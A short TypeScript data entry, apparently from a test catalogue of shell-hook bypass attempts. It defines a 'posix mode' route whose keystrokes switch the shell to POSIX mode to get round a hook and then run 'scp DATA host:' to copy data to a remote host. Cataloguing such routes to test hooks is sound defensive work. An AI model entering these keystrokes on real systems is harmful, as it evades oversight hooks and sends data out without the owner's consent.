import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'posix mode',
  source: 'attempts to get round a hook of the shell',
  keys: ['set -o posix\r', 'scp DATA host:\r'],
};
